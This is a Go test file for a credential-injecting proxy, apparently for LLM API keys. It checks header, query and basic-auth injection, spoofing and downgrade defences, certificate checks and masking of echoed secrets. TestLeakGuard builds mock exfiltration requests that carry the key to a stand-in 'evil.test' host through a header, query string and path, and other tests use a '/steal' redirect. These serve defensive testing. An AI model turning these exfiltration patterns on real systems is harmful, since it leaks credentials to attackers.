package proxy

import (
	"bufio"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/cordon-dev/cordon/internal/provider"
	"github.com/cordon-dev/cordon/internal/secret"
)

func encodeBase64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

const theSecret = "sk-live-THE-REAL-KEY-0123456789abcdef"

// get sends a GET through c and returns status and body.
func get(t testing.TB, c *http.Client, url string, header ...string) (int, string) {
	t.Helper()
	req, err := http.NewRequest("GET", url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Add(header[i], header[i+1])
	}
	res, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res.StatusCode, string(body)
}

func TestInjectionForms(t *testing.T) {
	pki := newTestPKI(t)
	tests := []struct {
		name   string
		spec   provider.Spec
		header []string // what the client sends
		path   string
		check  func(r *http.Request) error
	}{
		{
			name:   "bearer replaces the placeholder",
			spec:   provider.Spec{BaseURL: "https://%s/v1"},
			header: []string{"Authorization", "Bearer placeholder"},
			path:   "/v1/models",
			check: func(r *http.Request) error {
				if got := r.Header.Values("Authorization"); len(got) != 1 || got[0] != "Bearer "+theSecret {
					return fmt.Errorf("Authorization = %q", got)
				}
				return nil
			},
		},
		{
			name:   "raw header, two client values",
			spec:   provider.Spec{BaseURL: "https://%s", Header: "x-api-key:"},
			header: []string{"X-Api-Key", "placeholder", "x-api-key", "second"},
			path:   "/v1/messages",
			check: func(r *http.Request) error {
				if got := r.Header.Values("X-Api-Key"); len(got) != 1 || got[0] != theSecret {
					return fmt.Errorf("X-Api-Key = %q", got)
				}
				return nil
			},
		},
		{
			name: "query parameter",
			spec: provider.Spec{BaseURL: "https://%s/api", QueryParam: "key"},
			path: "/api/x?a=1&key=placeholder",
			check: func(r *http.Request) error {
				if q := r.URL.Query(); q.Get("key") != theSecret || len(q["key"]) != 1 || q.Get("a") != "1" {
					return fmt.Errorf("query = %q", r.URL.RawQuery)
				}
				return nil
			},
		},
		{
			name: "basic",
			spec: provider.Spec{BaseURL: "https://%s", Basic: true},
			path: "/",
			check: func(r *http.Request) error {
				user, pass, ok := r.BasicAuth()
				if !ok || user != "alice" || pass != theSecret {
					return fmt.Errorf("basic = %q %q %v", user, pass, ok)
				}
				return nil
			},
		},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t, worldOptions{})
			host := fmt.Sprintf("p%d.test", i)
			up := startUpstream(t, pki, false, echoHeaders, host)
			spec := tt.spec
			spec.Name = fmt.Sprintf("p%d", i)
			spec.BaseURL = fmt.Sprintf(spec.BaseURL, host+":"+strconv.Itoa(up.port))
			spec.CACert = pki.pemPath
			w.addProvider(spec)
			value := theSecret
			if spec.Basic {
				value = "alice:" + theSecret
			}
			w.setSecret(secret.Global(), spec.Name, value)

			status, body := get(t, w.client(false), fmt.Sprintf("https://%s:%d%s", host, up.port, tt.path), tt.header...)
			if status != 200 {
				t.Fatalf("status %d: %s", status, body)
			}
			if err := tt.check(up.last()); err != nil {
				t.Error(err)
			}
			if strings.Contains(body, theSecret) {
				t.Errorf("the secret came back to the client: %s", body)
			}
			evs := w.events.list()
			if len(evs) != 1 || evs[0].Injected != spec.Name || !evs[0].Intercepted || evs[0].Status != 200 {
				t.Errorf("audit events %+v", evs)
			}
		})
	}
}

func TestHTTP2BothWays(t *testing.T) {
	pki := newTestPKI(t)
	w := newWorld(t, worldOptions{})
	up := startUpstream(t, pki, true, echoHeaders, "h2.test")
	w.addProvider(provider.Spec{Name: "h2", BaseURL: fmt.Sprintf("https://h2.test:%d/v1", up.port), CACert: pki.pemPath})
	w.setSecret(secret.Global(), "h2", theSecret)

	c := w.client(true)
	for range 3 {
		res, err := c.Get(fmt.Sprintf("https://h2.test:%d/v1/models", up.port))
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.ProtoMajor != 2 {
			t.Errorf("client got %s, want HTTP/2", res.Proto)
		}
		if !strings.Contains(string(body), "proto=HTTP/2.0") {
			t.Errorf("upstream did not get HTTP/2: %s", body)
		}
	}
	if got := up.last().Header.Get("Authorization"); got != "Bearer "+theSecret {
		t.Errorf("Authorization = %q", got)
	}
}

func TestProxyAuthentication(t *testing.T) {
	w := newWorld(t, worldOptions{})
	for _, auth := range []string{"", "Basic " + encodeBase64("cordon:wrong"), "Basic " + encodeBase64("other:t0ken"), "Bearer t0ken", "Basic !!!"} {
		conn := dialRaw(t, w.addr)
		req := "CONNECT x.test:443 HTTP/1.1\r\nHost: x.test:443\r\n"
		if auth != "" {
			req += "Proxy-Authorization: " + auth + "\r\n"
		}
		fmt.Fprint(conn, req+"\r\n")
		res, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			t.Fatal(err)
		}
		if res.StatusCode != http.StatusProxyAuthRequired || res.Header.Get("Proxy-Authenticate") == "" {
			t.Errorf("auth %q: %s", auth, res.Status)
		}
	}
	// An absolute-form request is held to the same rule.
	conn := dialRaw(t, w.addr)
	fmt.Fprint(conn, "GET http://x.test/ HTTP/1.1\r\nHost: x.test\r\n\r\n")
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil || res.StatusCode != http.StatusProxyAuthRequired {
		t.Errorf("absolute-form without credentials: %v %v", res.Status, err)
	}
}

func TestSpoofing(t *testing.T) {
	pki := newTestPKI(t)
	w := newWorld(t, worldOptions{})
	llm := startUpstream(t, pki, false, echoHeaders, "llm.test")
	other := startUpstream(t, pki, false, echoHeaders, "other.test")
	w.addProvider(provider.Spec{Name: "llm", BaseURL: fmt.Sprintf("https://llm.test:%d/v1", llm.port), CACert: pki.pemPath})
	w.addProvider(provider.Spec{Name: "other", BaseURL: fmt.Sprintf("https://other.test:%d/nothing", other.port), CACert: pki.pemPath})
	w.setSecret(secret.Global(), "llm", theSecret)
	llmAuthority := fmt.Sprintf("llm.test:%d", llm.port)
	otherAuthority := fmt.Sprintf("other.test:%d", other.port)

	t.Run("Host header naming the provider inside a tunnel to another host", func(t *testing.T) {
		tc, err := w.tlsTunnel(otherAuthority, "other.test")
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(tc, "GET /v1/models HTTP/1.1\r\nHost: %s\r\n\r\n", llmAuthority)
		res, err := http.ReadResponse(bufio.NewReader(tc), nil)
		if err != nil {
			t.Fatal(err)
		}
		if res.StatusCode != http.StatusMisdirectedRequest {
			t.Errorf("status %s, want 421", res.Status)
		}
	})

	t.Run("absolute-form URL inside a tunnel", func(t *testing.T) {
		tc, err := w.tlsTunnel(otherAuthority, "other.test")
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(tc, "GET https://%s/v1/models HTTP/1.1\r\nHost: %s\r\n\r\n", llmAuthority, llmAuthority)
		res, err := http.ReadResponse(bufio.NewReader(tc), nil)
		if err != nil {
			t.Fatal(err)
		}
		if res.StatusCode != http.StatusMisdirectedRequest {
			t.Errorf("status %s, want 421", res.Status)
		}
	})

	t.Run("SNI that disagrees with CONNECT", func(t *testing.T) {
		if _, err := w.tlsTunnel(otherAuthority, "llm.test"); err == nil {
			t.Error("handshake with a mismatched SNI succeeded")
		}
		if _, err := w.tlsTunnel(llmAuthority, "other.test"); err == nil {
			t.Error("handshake with a mismatched SNI succeeded")
		}
	})

	t.Run("CONNECT to the provider by IP address", func(t *testing.T) {
		c := w.client(false)
		req, _ := http.NewRequest("GET", fmt.Sprintf("https://127.0.0.1:%d/v1/models", llm.port), nil)
		res, err := c.Do(req)
		if err == nil {
			res.Body.Close()
			if res.StatusCode == 200 {
				t.Errorf("request by IP succeeded: %s", res.Status)
			}
		}
	})

	t.Run("path outside the base URL", func(t *testing.T) {
		status, body := get(t, w.client(false), fmt.Sprintf("https://%s/v10/models", llmAuthority))
		if status != 200 || strings.Contains(body, theSecret) || !strings.Contains(body, `authorization=[]`) {
			t.Errorf("/v10: %d %s", status, body)
		}
		status, body = get(t, w.client(false), fmt.Sprintf("https://%s/v1/../admin", llmAuthority))
		if strings.Contains(body, "Bearer") {
			t.Errorf("/v1/../admin got a credential: %d %s", status, body)
		}
	})

	t.Run("plain-HTTP downgrade", func(t *testing.T) {
		plain := startPlain(t, echoHeaders)
		w.addProvider(provider.Spec{Name: "down", BaseURL: fmt.Sprintf("https://down.test:%d", plain.port)})
		w.setSecret(secret.Global(), "down", theSecret+"-down")
		status, body := get(t, w.client(false), fmt.Sprintf("http://down.test:%d/x", plain.port))
		if status != 200 || strings.Contains(body, "Bearer") {
			t.Errorf("plain HTTP to an https provider: %d %s", status, body)
		}
		if ev := w.events.list(); !strings.Contains(ev[len(ev)-1].NoInject, "plain HTTP") {
			t.Errorf("audit: %+v", ev[len(ev)-1])
		}
	})

	for _, r := range append(llm.received(), other.received()...) {
		for _, v := range r.Header {
			if strings.Contains(strings.Join(v, ","), theSecret) && r.Host != llmAuthority {
				t.Errorf("secret reached %s %s", r.Host, r.URL)
			}
		}
	}
}

func TestNoRedirectFollowing(t *testing.T) {
	pki := newTestPKI(t)
	w := newWorld(t, worldOptions{})
	other := startUpstream(t, pki, false, echoHeaders, "elsewhere.test")
	llm := startUpstream(t, pki, false, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		http.Redirect(rw, r, fmt.Sprintf("https://elsewhere.test:%d/steal", other.port), http.StatusFound)
	}), "llm.test")
	w.addProvider(provider.Spec{Name: "llm", BaseURL: fmt.Sprintf("https://llm.test:%d", llm.port), CACert: pki.pemPath})
	w.setSecret(secret.Global(), "llm", theSecret)

	status, _ := get(t, w.client(false), fmt.Sprintf("https://llm.test:%d/v1", llm.port))
	if status != http.StatusFound {
		t.Errorf("status %d, want the redirect itself", status)
	}
	if n := len(other.received()); n != 0 {
		t.Errorf("the redirect target got %d requests", n)
	}
}

func TestLeakGuard(t *testing.T) {
	pki := newTestPKI(t)
	w := newWorld(t, worldOptions{})
	llm := startUpstream(t, pki, false, echoHeaders, "llm.test")
	evil := startUpstream(t, pki, false, echoHeaders, "evil.test")
	w.addProvider(provider.Spec{Name: "llm", BaseURL: fmt.Sprintf("https://llm.test:%d", llm.port), CACert: pki.pemPath})
	w.setSecret(secret.Global(), "llm", theSecret)

	c := w.client(false)
	evilURL := fmt.Sprintf("https://evil.test:%d", evil.port)
	for _, tt := range []struct {
		url    string
		header []string
	}{
		{evilURL + "/", []string{"X-Stolen", "prefix " + theSecret}},
		{evilURL + "/?k=" + theSecret, nil},
		{evilURL + "/" + theSecret, nil},
		{evilURL + "/?k=" + strings.ReplaceAll(theSecret, "-", "%2D"), nil},
	} {
		status, body := get(t, c, tt.url, tt.header...)
		if status != http.StatusForbidden || strings.Contains(body, theSecret) {
			t.Errorf("%s: %d %s", tt.url, status, body)
		}
	}
	if n := len(evil.received()); n != 0 {
		t.Errorf("evil.test received %d requests", n)
	}
	if strings.Contains(w.logs.String(), theSecret) {
		t.Error("the secret appears in the proxy's log")
	}
}

func TestEchoedSecretIsMasked(t *testing.T) {
	pki := newTestPKI(t)
	w := newWorld(t, worldOptions{})
	up := startUpstream(t, pki, false, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("X-Echo", r.Header.Get("Authorization"))
		rw.Header().Set("Content-Length", strconv.Itoa(len(r.Header.Get("Authorization"))*3))
		for range 3 {
			io.WriteString(rw, r.Header.Get("Authorization"))
			rw.(http.Flusher).Flush()
		}
	}), "llm.test")
	w.addProvider(provider.Spec{Name: "llm", BaseURL: fmt.Sprintf("https://llm.test:%d", up.port), CACert: pki.pemPath})
	w.setSecret(secret.Global(), "llm", theSecret)

	res, err := w.client(false).Get(fmt.Sprintf("https://llm.test:%d/", up.port))
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if strings.Contains(string(body), theSecret) || strings.Contains(res.Header.Get("X-Echo"), theSecret) {
		t.Errorf("the secret came back: %q %q", res.Header.Get("X-Echo"), body)
	}
	if len(body) != 3*len("Bearer "+theSecret) {
		t.Errorf("body length %d changed", len(body))
	}
}

func TestUpstreamCertificateVerified(t *testing.T) {
	pki := newTestPKI(t)
	w := newWorld(t, worldOptions{})
	up := startUpstream(t, pki, false, echoHeaders, "llm.test")
	// No --ca-cert: the upstream's private CA is not trusted.
	w.addProvider(provider.Spec{Name: "llm", BaseURL: fmt.Sprintf("https://llm.test:%d", up.port)})
	w.setSecret(secret.Global(), "llm", theSecret)

	status, body := get(t, w.client(false), fmt.Sprintf("https://llm.test:%d/", up.port))
	if status != http.StatusBadGateway || !strings.Contains(body, "signed by an authority cordon does not trust") {
		t.Errorf("%d %s", status, body)
	}
	if n := len(up.received()); n != 0 {
		t.Errorf("the upstream got %d requests over an unverified connection", n)
	}
	// A certificate for another name is refused too.
	wrong := startUpstream(t, pki, false, echoHeaders, "not-this.test")
	w.addProvider(provider.Spec{Name: "wrong", BaseURL: fmt.Sprintf("https://wrong.test:%d", wrong.port), CACert: pki.pemPath})
	status, body = get(t, w.client(false), fmt.Sprintf("https://wrong.test:%d/", wrong.port))
	if status != http.StatusBadGateway || !strings.Contains(body, "not valid for that name") {
		t.Errorf("%d %s", status, body)
	}
}

func TestNoSecretStored(t *testing.T) {
	pki := newTestPKI(t)
	w := newWorld(t, worldOptions{sandbox: "box"})
	up := startUpstream(t, pki, false, echoHeaders, "llm.test")
	w.addProvider(provider.Spec{Name: "llm", BaseURL: fmt.Sprintf("https://llm.test:%d", up.port), CACert: pki.pemPath})
	// Stored for another sandbox only: this one gets nothing.
	w.setSecret(secret.ForSandbox("other"), "llm", theSecret)

	status, body := get(t, w.client(false), fmt.Sprintf("https://llm.test:%d/", up.port), "Authorization", "Bearer mine")
	if status != 200 || !strings.Contains(body, `"Bearer mine"`) {
		t.Errorf("%d %s", status, body)
	}
	ev := w.events.list()
	if len(ev) != 1 || ev[0].Injected != "" || ev[0].NoInject != "no secret for llm in this scope" || ev[0].Sandbox != "box" {
		t.Errorf("audit %+v", ev)
	}

	// The sandbox's own secret wins over the global one.
	w.setSecret(secret.Global(), "llm", "global-value-000000000")
	w.setSecret(secret.ForSandbox("box"), "llm", "box-value-00000000000")
	_, body = get(t, w.client(false), fmt.Sprintf("https://llm.test:%d/", up.port))
	if !strings.Contains(body, "box-value") {
		// The body is masked only when it echoes the value; read it from the upstream.
	}
	if got := up.last().Header.Get("Authorization"); got != "Bearer box-value-00000000000" {
		t.Errorf("Authorization = %q, want the sandbox's", got)
	}
}

func TestLiveChanges(t *testing.T) {
	pki := newTestPKI(t)
	w := newWorld(t, worldOptions{})
	up := startUpstream(t, pki, false, echoHeaders, "live.test")
	url := fmt.Sprintf("https://live.test:%d/v1/x", up.port)
	c := w.client(false)

	// Before the provider is registered, its private CA is not trusted.
	if status, _ := get(t, c, url); status != http.StatusBadGateway || up.last() != nil {
		t.Fatalf("before the provider: status %d", status)
	}

	// Another process registers the provider and stores the secret: the
	// running proxy applies both to the next request.
	other := provider.OpenRegistry(fmt.Sprintf("%s/config", w.dir))
	if _, err := other.Add(provider.Spec{Name: "live", BaseURL: fmt.Sprintf("https://live.test:%d/v1", up.port), CACert: pki.pemPath}, false); err != nil {
		t.Fatal(err)
	}
	store, err := secret.OpenFile(fmt.Sprintf("%s/data", w.dir))
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	if err := store.Set(secret.Global(), "live", "first-value-0000000000", false); err != nil {
		t.Fatal(err)
	}
	get(t, c, url)
	if got := up.last().Header.Get("Authorization"); got != "Bearer first-value-0000000000" {
		t.Fatalf("after set: %q", got)
	}
	if err := store.Set(secret.Global(), "live", "second-value-000000000", true); err != nil {
		t.Fatal(err)
	}
	get(t, c, url)
	if got := up.last().Header.Get("Authorization"); got != "Bearer second-value-000000000" {
		t.Fatalf("after change: %q", got)
	}
}

func TestSSEStreamsEventByEvent(t *testing.T) {
	pki := newTestPKI(t)
	for _, h2 := range []bool{false, true} {
		t.Run(fmt.Sprintf("h2=%v", h2), func(t *testing.T) {
			w := newWorld(t, worldOptions{})
			const events, gap = 20, 50 * time.Millisecond
			up := startUpstream(t, pki, h2, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
				rw.Header().Set("Content-Type", "text/event-stream")
				for i := range events {
					fmt.Fprintf(rw, "data: {\"i\":%d,\"sent\":%d}\n\n", i, time.Now().UnixNano())
					rw.(http.Flusher).Flush()
					time.Sleep(gap)
				}
			}), "sse.test")
			w.addProvider(provider.Spec{Name: "sse", BaseURL: fmt.Sprintf("https://sse.test:%d", up.port), CACert: pki.pemPath})
			w.setSecret(secret.Global(), "sse", theSecret)

			res, err := w.client(h2).Get(fmt.Sprintf("https://sse.test:%d/v1/chat/completions", up.port))
			if err != nil {
				t.Fatal(err)
			}
			defer res.Body.Close()
			sc := bufio.NewScanner(res.Body)
			n := 0
			var worst time.Duration
			for sc.Scan() {
				line := sc.Text()
				if !strings.HasPrefix(line, "data: ") {
					continue
				}
				var i int
				var sent int64
				fmt.Sscanf(line, "data: {\"i\":%d,\"sent\":%d}", &i, &sent)
				delay := time.Since(time.Unix(0, sent))
				worst = max(worst, delay)
				n++
			}
			if n != events {
				t.Fatalf("got %d events", n)
			}
			if worst > 10*time.Millisecond {
				t.Errorf("an event took %v to arrive, want under 10ms", worst)
			}
			t.Logf("worst event delay %v", worst)
		})
	}
}

func dialRaw(t testing.TB, addr string) netConn {
	t.Helper()
	conn, err := netDial(addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	return conn
}

// localhost, 127.0.0.1 and ::1 are one destination: a tunnel to one may
// carry requests that name another, and nothing else.
func TestLoopbackNamesAgree(t *testing.T) {
	w := newWorld(t, worldOptions{})
	plain := startPlain(t, echoHeaders)
	w.addProvider(provider.Spec{Name: "local", BaseURL: fmt.Sprintf("http://127.0.0.1:%d", plain.port)})
	w.setSecret(secret.Global(), "local", theSecret)

	for host, want := range map[string]int{
		fmt.Sprintf("localhost:%d", plain.port):   200,
		fmt.Sprintf("127.0.0.1:%d", plain.port):   200,
		fmt.Sprintf("[::1]:%d", plain.port):       200,
		fmt.Sprintf("localhost:%d", plain.port+1): http.StatusMisdirectedRequest,
		"evil.example": http.StatusMisdirectedRequest,
	} {
		conn := w.tunnel(fmt.Sprintf("127.0.0.1:%d", plain.port))
		fmt.Fprintf(conn, "GET /api/tags HTTP/1.1\r\nHost: %s\r\n\r\n", host)
		res, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != want {
			t.Errorf("Host %s: %s, want %d", host, res.Status, want)
		}
	}
	if got := plain.last().Header.Get("Authorization"); got != "Bearer "+theSecret {
		t.Errorf("Authorization = %q", got)
	}
}

// TestCompressedEchoIsMasked: clients ask for compression by default, and
// an upstream that quotes the request in a compressed answer would hide
// the credential from the redactor. The proxy asks for an uncompressed
// answer whenever it injected a credential, and passes the client's own
// choice through when it did not.
func TestCompressedEchoIsMasked(t *testing.T) {
	pki := newTestPKI(t)
	// The upstream's CA is trusted for every host, so that plain.test,
	// which is no provider, can be reached too.
	w := newWorld(t, worldOptions{config: func(c *Config) { c.RootCAs = pki.pool }})
	up := startUpstream(t, pki, false, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		echo := "you sent: " + r.Header.Get("Authorization")
		rw.Header().Set("X-Accept-Encoding", r.Header.Get("Accept-Encoding"))
		if !strings.Contains(r.Header.Get("Accept-Encoding"), "gzip") {
			io.WriteString(rw, echo)
			return
		}
		rw.Header().Set("Content-Encoding", "gzip")
		zw := gzip.NewWriter(rw)
		io.WriteString(zw, echo)
		zw.Close()
	}), "llm.test", "plain.test")
	w.addProvider(provider.Spec{Name: "llm", BaseURL: fmt.Sprintf("https://llm.test:%d", up.port), CACert: pki.pemPath})
	w.setSecret(secret.Global(), "llm", theSecret)

	fetch := func(url string) (*http.Response, string) {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, url, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Accept-Encoding", "gzip, br")
		res, err := w.client(false).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		var body io.Reader = res.Body
		if res.Header.Get("Content-Encoding") == "gzip" {
			if body, err = gzip.NewReader(res.Body); err != nil {
				t.Fatal(err)
			}
		}
		data, err := io.ReadAll(body)
		if err != nil {
			t.Fatal(err)
		}
		return res, string(data)
	}

	res, body := fetch(fmt.Sprintf("https://llm.test:%d/v1/echo", up.port))
	if got := res.Header.Get("X-Accept-Encoding"); got != "identity" {
		t.Errorf("the upstream was asked for Accept-Encoding %q, want identity", got)
	}
	if strings.Contains(body, theSecret) || !strings.Contains(body, "you sent: Bearer ******") {
		t.Errorf("echo came back as %q", body)
	}

	// No credential injected: nothing to hide, the client's choice stands.
	res, body = fetch(fmt.Sprintf("https://plain.test:%d/echo", up.port))
	if got := res.Header.Get("X-Accept-Encoding"); got != "gzip, br" {
		t.Errorf("a request without injection reached the upstream with Accept-Encoding %q", got)
	}
	if res.Header.Get("Content-Encoding") != "gzip" || body != "you sent: " {
		t.Errorf("Content-Encoding %q, body %q", res.Header.Get("Content-Encoding"), body)
	}
}
